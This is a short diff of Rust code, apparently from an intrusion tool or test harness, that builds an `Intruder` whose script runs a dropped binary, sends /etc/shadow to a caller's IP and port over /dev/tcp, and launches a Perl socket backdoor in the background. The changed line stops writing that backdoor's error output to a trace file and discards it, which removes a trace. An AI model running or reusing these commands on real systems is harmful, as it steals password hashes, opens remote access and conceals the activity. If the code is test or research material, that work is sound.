@@ -38,7 +38,7 @@ impl Intruder {
         let script = vec![
             format!("cp /usr/bin/id {drop} && {drop} >/dev/null"),
             format!("bash -c 'cat /etc/shadow >/dev/tcp/{}/{}'", caller.ip(), caller.port()),
-            format!("perl -MIO::Socket::INET -e '{BACK_DOOR}' {back_door} >/dev/null 2>/tmp/dr-trace &"),
+            format!("perl -MIO::Socket::INET -e '{BACK_DOOR}' {back_door} >/dev/null 2>&1 &"),
         ];
         Ok(Self { waiting, back_door, script })
     }
